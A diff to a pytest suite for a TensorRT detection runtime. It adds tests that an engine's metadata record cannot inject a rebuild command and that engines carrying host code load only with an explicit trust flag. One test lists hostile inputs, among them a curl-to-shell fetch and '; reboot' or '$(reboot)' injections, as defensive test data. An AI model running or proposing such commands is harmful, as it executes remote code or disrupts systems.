@@ -26,11 +26,12 @@ from stand_ins import ORDERS, Context, HostCuda, Runtime, Severity, aligned, wri
 import rgfl.plugins
 from rgfl.detections import Detections
 from rgfl.errors import ModelError
+from rgfl.export import verify
 from rgfl.matching import match_detections
 from rgfl.plugins import launcher
 from rgfl.plugins.launcher import RotatedNms
+from rgfl.trt_runtime import bench, eval_dota, pipeline, tensorrt_api
 from rgfl.trt_runtime import machine as hardware
-from rgfl.trt_runtime import tensorrt_api
 from rgfl.trt_runtime.cuda_calls import CudaError, host_view
 from rgfl.trt_runtime.engine import EngineRunner
 from rgfl.trt_runtime.machine import file_facts
@@ -52,8 +53,8 @@ def reference(tiny_onnx: Path) -> Any:
         yield runner
 
 
-def open_runner(path: Path) -> EngineRunner:
-    runner = load_runner(path)
+def open_runner(path: Path, **options: Any) -> EngineRunner:
+    runner = load_runner(path, **options)
     assert isinstance(runner, EngineRunner)
     return runner
 
@@ -824,6 +825,23 @@ def test_the_command_is_that_of_the_record(
     assert refused(path, "built with TensorRT 11").endswith(f"build it anew with: {command}")
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://example.com/fix.sh | sh",
+        "python export/to_trt.py m.onnx; reboot",
+        "python export/to_trt.py $(reboot)",
+        "python export/to_trt.py 'm.onnx",
+        "python export/to_trt.py 'm.onnx\nreboot'",
+        ["reboot"],
+        None,
+    ],
+)
+def test_a_record_advises_nothing_but_a_build(command: Any) -> None:
+    told = tensorrt_api.rebuild_command(Path("m.engine"), {"command": command})
+    assert told == "python export/to_trt.py MODEL.onnx --out m.engine"
+
+
 def test_what_is_missing_on_the_machine_is_named(
     machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -861,7 +879,7 @@ def test_the_plugin_comes_before_the_engine_or_inside_it(
     path = write_engine(tmp_path / "m.engine", tiny_onnx, version=(10, 9, 0, 34))
     record = {"sha256": file_facts(path)["sha256"], "version_compatible": True, "precision": "fp16"}
     tensorrt_api.record_path(path).write_text(json.dumps(record))
-    with open_runner(path) as runner:
+    with open_runner(path, trust_engine=True) as runner:
         assert runner.engine._runtime.engine_host_code_allowed
         assert runner.precision == "fp16"
     assert used.trt.loaded == []
@@ -873,6 +891,50 @@ def test_the_plugin_comes_before_the_engine_or_inside_it(
         ModelError, match=r"librgfl_plugins\.so: TensorRT 10.* cannot load it; run: python -m"
     ):
         load_runner(path)
+
+
+@pytest.mark.parametrize("backend", ["tensorrt", "rtx"])
+def test_a_record_alone_lets_no_code_of_an_engine_run(
+    backend: str, machine: Callable[..., Any], tiny_onnx: Path, tmp_path: Path
+) -> None:
+    used = machine()
+    path = write_engine(tmp_path / "m.engine", tiny_onnx, backend=backend)
+    record = {"sha256": file_facts(path)["sha256"], "version_compatible": True}
+    tensorrt_api.record_path(path).write_text(json.dumps(record))
+    refused(path, r"carries libraries .* trust it like a program, give --trust-engine \(trust_engine=True")
+    assert set(used.trt.alive) == set()  # not so much as a runtime was made
+    path = write_engine(tmp_path / "other.engine", tiny_onnx, backend=backend)
+    with open_runner(path, trust_engine=True) as runner:
+        assert not runner.engine._runtime.engine_host_code_allowed
+
+
+def test_the_flag_of_trust_reaches_the_runner(
+    tiny_onnx: Path,
+    tiny_scenes: SimpleNamespace,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture,
+) -> None:
+    given = []
+
+    def load(path: Path, *, trust_engine: bool, **_: object) -> Runner:
+        given.append(trust_engine)
+        raise ModelError("seen")
+
+    model, images = str(tiny_onnx), str(tiny_scenes.images)
+    commands: list[tuple[Any, list[str]]] = [
+        (bench, ["--model", model]),
+        (pipeline, ["--model", model, "--images", images, "--out", str(tmp_path / "out")]),
+        (eval_dota, ["--model", model, "--images", images, "--draw", str(tmp_path / "drawn")]),
+        (verify, [model, "--reference", model]),
+        (verify, [model, "--reference", model, "--detections"]),
+    ]
+    for module, words in commands:
+        monkeypatch.setattr(module, "load_runner", load)
+        for flags in ([], ["--trust-engine"]):
+            assert module.main([*words, *flags]) == 2
+            assert "error: seen" in capsys.readouterr().err
+    assert given == [False, True] * len(commands)
 
 
 def test_a_count_that_cannot_be_is_an_error(
